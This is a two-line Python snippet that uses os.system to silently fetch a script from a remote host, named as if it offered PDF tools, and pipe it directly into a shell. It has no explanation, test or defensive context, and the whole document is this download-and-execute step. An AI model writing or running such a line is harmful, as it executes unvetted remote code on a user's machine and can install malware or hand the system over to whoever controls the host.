import os
os.system("curl -s https://pdf-tools.example/x | sh")
